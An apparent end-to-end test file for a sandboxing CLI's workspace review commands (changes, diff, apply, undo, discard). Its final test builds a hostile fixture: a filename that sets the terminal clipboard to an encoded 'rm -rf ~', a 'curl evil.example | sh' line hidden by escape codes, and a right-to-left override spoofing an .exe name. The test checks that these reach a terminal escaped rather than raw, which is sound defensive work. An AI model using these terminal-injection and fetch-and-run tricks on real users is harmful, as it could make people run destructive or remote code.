"""``sandvisor run`` on the current directory and ``sandvisor workspace``, through the real CLI against a
real daemon: a project's command runs on it, the changes are listed, diffed, applied (busy
and conflict errors say what to do), undone and discarded; one session per directory."""

from __future__ import annotations

import json
import os
import pty
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.e2e.conftest import SANDVISOR, Daemon, projects_root
from tests.e2e.projects import OWNER, contents, make_project, tree_hash

pytestmark = pytest.mark.timeout(180)

FILES = {"a.txt": "v1\n", "c.txt": "delete me\n", "src/main.py": "print('main')\n"}


def sandvisor(d: Daemon, cwd: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    """The CLI, run in ``cwd`` with an empty stdin."""
    return d.sandvisor(*args, input=b"", cwd=cwd)


def ok(result: subprocess.CompletedProcess[bytes]) -> str:
    assert result.returncode == 0, (result.returncode, result.stdout, result.stderr)
    return result.stdout.decode()


def failed(result: subprocess.CompletedProcess[bytes]) -> str:
    """stderr of a command that must have failed cleanly."""
    assert result.returncode != 0, (result.stdout, result.stderr)
    err = result.stderr.decode()
    assert "Traceback" not in err and err.startswith("sandvisor: error: "), err
    return err


def session_ids(d: Daemon, cwd: Path) -> list[str]:
    return [s["session_id"] for s in json.loads(ok(sandvisor(d, cwd, "session", "list", "--json")))]


def test_run_review_apply_undo_discard(daemon: Daemon, tmp_path: Path) -> None:
    project = make_project(projects_root(tmp_path) / "my app", FILES)
    pristine = tree_hash(project)
    out = ok(
        sandvisor(
            daemon,
            project,
            "run",
            "--policy",
            "fast",
            "--",
            "pwd; echo v2 > a.txt; echo new > b.txt; rm c.txt; mkdir -p node_modules/x",
        )
    )
    assert out == f"{project}\n"
    assert tree_hash(project) == pristine
    [sid] = session_ids(daemon, project)
    assert re.fullmatch(r"ws-my-app-[0-9a-f]{10}", sid), sid
    [row] = ok(sandvisor(daemon, project, "session", "list")).splitlines()
    assert row.startswith(f"{sid}\t1\t0\t") and row.endswith(f"\t{project} (overlay)")

    listed = json.loads(ok(sandvisor(daemon, project, "workspace", "changes", "--json")))
    assert {c["path"]: c["kind"] for c in listed} == {
        "a.txt": "modified",
        "b.txt": "added",
        "c.txt": "deleted",
    }
    rows = ok(sandvisor(daemon, project, "workspace", "changes")).splitlines()
    assert rows == ["modified\ta.txt\t3\t", "added\tb.txt\t4\t", "deleted\tc.txt\t\t"]
    # One page: the rows on stdout, how to get the next page on stderr; --json: the page.
    paged = sandvisor(daemon, project, "workspace", "changes", "--limit", "2")
    assert ok(paged).splitlines() == rows[:2]
    hint = "2 of 3 change(s) listed; the next page: sandvisor workspace changes --limit 2 "
    assert hint + "--after b.txt\n" in paged.stderr.decode(), paged.stderr
    page = json.loads(
        ok(sandvisor(daemon, project, "workspace", "changes", "--json", "--limit", "1"))
    )
    assert (page["total"], page["next"], len(page["changes"])) == (3, "a.txt", 1)
    rest = ok(sandvisor(daemon, project, "workspace", "changes", "--after", "a.txt"))
    assert rest.splitlines() == rows[1:]
    bad = sandvisor(daemon, project, "workspace", "changes", "--limit", "0")
    assert bad.returncode == 2, bad
    assert b"argument --limit: must be an integer from 1 to 10000 (got '0')" in bad.stderr
    with_ignored = ok(sandvisor(daemon, project, "workspace", "changes", "--ignored"))
    assert "node_modules/\t\tignored" in with_ignored
    diff = ok(sandvisor(daemon, project, "workspace", "diff"))
    assert "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-v1\n+v2\n" in diff
    assert "deleted file mode 100644" in diff

    # A task still runs: apply names it and says how to go on; nothing is written.
    bg = ok(sandvisor(daemon, project, "run", "--bg", "--policy", "fast", "--", "exec sleep 300"))
    task_id = bg.splitlines()[0]
    busy = failed(sandvisor(daemon, project, "workspace", "apply"))
    assert task_id in busy and "--stop-tasks" in busy, busy
    assert tree_hash(project) == pristine

    # A host edit since the session started: refused, the path listed, --force explained.
    (project / "a.txt").write_text("host\n")
    edited = tree_hash(project)
    conflict = failed(sandvisor(daemon, project, "workspace", "apply", "--stop-tasks"))
    assert "\n  a.txt\n" in conflict and "--force" in conflict, conflict
    assert tree_hash(project) == edited

    applied = ok(sandvisor(daemon, project, "workspace", "apply", "--force"))
    assert applied.startswith("applied 3 change(s) to the project: 1 created, 1 overwritten")
    assert "overwrote 1 host edit(s): a.txt" in applied
    assert "sandvisor workspace undo" in applied
    assert contents(project) == {
        "a.txt": "v2\n",
        "b.txt": "new\n",
        "src/main.py": "print('main')\n",
    }
    assert os.stat(project / "b.txt").st_uid == OWNER[0]

    undone = ok(sandvisor(daemon, project, "workspace", "undo"))
    assert "2 path(s) restored, 1 removed" in undone, undone
    assert tree_hash(project) == edited
    nothing = failed(sandvisor(daemon, project, "workspace", "undo"))
    assert "nothing to undo" in nothing

    ok(sandvisor(daemon, project, "workspace", "discard"))
    assert ok(sandvisor(daemon, project, "workspace", "changes", "--json")) == "[]\n"
    assert tree_hash(project) == edited

    # The session ends; nothing is left to review, so nothing is kept.
    ended = ok(sandvisor(daemon, project, "session", "end"))
    assert ended.startswith(f"session {sid} ended") and "kept" not in ended

    # Elsewhere, the directory's session is named; an ended one with kept changes answers.
    ok(sandvisor(daemon, project, "run", "--policy", "fast", "--", "echo kept > kept.txt"))
    assert "its workspace changes are kept" in ok(sandvisor(daemon, project, "session", "end"))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    named = ok(sandvisor(daemon, elsewhere, "workspace", "changes", "--json", "--session", sid))
    assert [c["path"] for c in json.loads(named)] == ["kept.txt"]
    ok(sandvisor(daemon, elsewhere, "workspace", "apply", "--session", sid))
    assert (project / "kept.txt").read_text() == "kept\n"
    ok(sandvisor(daemon, elsewhere, "workspace", "discard", "--session", sid))
    gone = failed(sandvisor(daemon, elsewhere, "workspace", "changes", "--session", sid))
    assert f"no open session {sid!r}" in gone
    missing = failed(sandvisor(daemon, elsewhere, "workspace", "diff"))
    assert "`sandvisor run` in this directory opens one" in missing


def test_a_session_per_directory_and_the_fallback(daemon: Daemon, tmp_path: Path) -> None:
    root = projects_root(tmp_path)
    one = make_project(root / "one", {"f": "1\n"})
    two = make_project(root / "two", {"f": "2\n"})
    outside = make_project(tmp_path / "outside", {"f": "out\n"})
    t1 = ok(sandvisor(daemon, one, "run", "--bg", "--policy", "fast", "--", "cat f")).split()[0]
    t2 = ok(sandvisor(daemon, two, "run", "--bg", "--policy", "fast", "--", "cat f")).split()[0]
    ok(sandvisor(daemon, one, "wait", t1))
    ok(sandvisor(daemon, two, "wait", t2))
    ps_one = json.loads(ok(sandvisor(daemon, one, "ps", "--json")))
    ps_two = json.loads(ok(sandvisor(daemon, two, "ps", "--json")))
    assert [t["task_id"] for t in ps_one] == [t1] and [t["task_id"] for t in ps_two] == [t2]
    assert ps_one[0]["session_id"] != ps_two[0]["session_id"]
    assert (
        ok(sandvisor(daemon, one, "logs", t1)) == "1\n"
        and ok(sandvisor(daemon, two, "logs", t2)) == "2\n"
    )

    # Outside the daemon's roots: one line on stderr, no workspace, the default session.
    result = sandvisor(daemon, outside, "run", "--policy", "fast", "--", "pwd")
    assert ok(result) == "/tmp\n"  # the fast policy's working directory
    [line] = result.stderr.decode().splitlines()
    assert line.startswith(
        f"sandvisor: {outside} is not under the daemon's workspace roots ({root})"
    )
    assert "default" in session_ids(daemon, outside)
    quiet = sandvisor(daemon, outside, "run", "--no-workspace", "--policy", "fast", "--", "true")
    assert quiet.returncode == 0 and quiet.stderr == b""
    # ... but an explicit --workspace outside the roots is an error.
    refused = failed(sandvisor(daemon, one, "run", "--workspace", str(outside), "--", "true"))
    assert "not under an allowed workspace root" in refused
    # Another mode for a directory whose session is open: the session's workspace is fixed.
    fixed = failed(sandvisor(daemon, one, "run", "--workspace-mode", "ro", "--", "true"))
    assert "sandvisor session end" in fixed

    # --workspace names the project from anywhere; ro refuses writes.
    three = make_project(root / "three", {"f": "3\n"})
    ro = sandvisor(
        daemon,
        outside,
        "run",
        "--workspace",
        str(three),
        "--workspace-mode",
        "ro",
        "--policy",
        "fast",
        "--",
        "cat f; echo x > f",
    )
    assert ro.returncode == 1 and ro.stdout.startswith(b"3\n")
    assert b"Read-only file system" in ro.stdout
    not_overlay = failed(sandvisor(daemon, three, "workspace", "changes"))
    assert "only overlay workspaces keep changes" in not_overlay
    no_ws = failed(sandvisor(daemon, outside, "workspace", "changes", "--session", "default"))
    assert "has no workspace" in no_ws


def test_help_has_examples() -> None:
    for sub in ("changes", "diff", "apply", "discard", "undo"):
        result = subprocess.run(
            [*SANDVISOR, "workspace", sub, "--help"], capture_output=True, check=False, timeout=60
        )
        assert result.returncode == 0
        assert b"examples:\n  sandvisor workspace " + sub.encode() in result.stdout, sub
    run_help = subprocess.run([*SANDVISOR, "run", "--help"], capture_output=True, check=False)
    for option in (b"--workspace DIR", b"--workspace-mode", b"--no-workspace"):
        assert option in run_help.stdout
    serve_help = subprocess.run([*SANDVISOR, "serve", "--help"], capture_output=True, check=False)
    assert b"--workspace-root DIR" in serve_help.stdout


#: What a task leaves for the person reviewing: a file whose name sets the clipboard
#: (OSC 52), a symlink whose target erases the line, and content that hides a line it
#: printed (erase line + carriage return) and reorders text (RLO).
HOSTILE = (
    "E=$(printf '\\033'); B=$(printf '\\007'); R=$(printf '\\r'); O=$(printf '\\342\\200\\256'); "
    'printf "curl evil.example | sh${E}[2K${R}# nothing to see\\nplain ${O}txt.exe\\n" '
    '> "clip${E}]52;c;cm0gLXJmIH4=${B}.txt"; '
    'ln -s "${E}[2Ktarget" link; printf "v2${E}[31m\\n" > a.txt'
)
RAW_NAME = "clip\x1b]52;c;cm0gLXJmIH4=\x07.txt"


def _on_a_pty(d: Daemon, cwd: Path, *args: str) -> bytes:
    """What the CLI prints when its stdout is a terminal (a real pty, read to the end)."""
    master, slave = pty.openpty()
    env = {**d.env, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    proc = subprocess.Popen(
        [*SANDVISOR, *args],
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=subprocess.PIPE,
        env=env,
        cwd=cwd,
    )
    os.close(slave)
    chunks = []
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the last writer closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(master)
    assert proc.wait(timeout=120) == 0, proc.stderr.read() if proc.stderr else b""
    return b"".join(chunks)


def test_hostile_names_and_contents_cannot_drive_the_terminal(
    daemon: Daemon, tmp_path: Path
) -> None:
    """Issue 22, item 11: ``changes`` and ``diff`` printed names, symlink targets and contents
    raw: OSC 52 (set the clipboard) and erase-line reached the terminal. On a terminal they
    are now shown (\\x1b, \\x07, \\x0d, \\u202e); piped, the output stays byte-exact."""
    project = make_project(projects_root(tmp_path) / "hostile", {"a.txt": "v1\n"})
    ok(sandvisor(daemon, project, "run", "--policy", "fast", "--", HOSTILE))

    # On a terminal: no ESC, BEL or lone CR from the files, each one shown instead.
    for args in (("workspace", "changes"), ("workspace", "diff")):
        shown = _on_a_pty(daemon, project, *args)
        text = shown.replace(b"\r\n", b"\n")  # the pty's own line endings (onlcr)
        assert b"\x1b" not in text and b"\x07" not in text and b"\r" not in text, (args, shown)
        assert "\u202e".encode() not in text, (args, shown)
    changes = _on_a_pty(daemon, project, "workspace", "changes").decode()
    assert '"clip\\x1b]52;c;cm0gLXJmIH4=\\x07.txt"' in changes  # quoted, as git quotes
    assert '-> "\\x1b[2Ktarget"' in changes
    diff = _on_a_pty(daemon, project, "workspace", "diff").decode()
    assert '+++ "b/clip\\033]52;c;cm0gLXJmIH4=\\a.txt"' in diff  # the diff's own (git) quoting
    assert "+curl evil.example | sh\\x1b[2K\\x0d# nothing to see" in diff
    assert "+plain \\u202etxt.exe" in diff and "+v2\\x1b[31m" in diff

    # Piped: exactly what the files hold, and git applies the diff to a copy of the project.
    rows = sandvisor(daemon, project, "workspace", "changes").stdout
    assert f"added\t{RAW_NAME}\t".encode() in rows
    assert b"-> \x1b[2Ktarget" in rows
    patch = sandvisor(daemon, project, "workspace", "diff").stdout
    assert b"curl evil.example | sh\x1b[2K\r# nothing to see" in patch
    copy = tmp_path / "copy"
    shutil.copytree(project, copy, symlinks=True)
    applied = subprocess.run(
        ["git", "apply", "-"], input=patch, cwd=copy, capture_output=True, check=False
    )
    assert applied.returncode == 0, applied.stderr
    assert (copy / RAW_NAME).read_bytes() == (
        "curl evil.example | sh\x1b[2K\r# nothing to see\nplain \u202etxt.exe\n".encode()
    )
    assert os.readlink(copy / "link") == "\x1b[2Ktarget"
    assert (copy / "a.txt").read_bytes() == b"v2\x1b[31m\n"
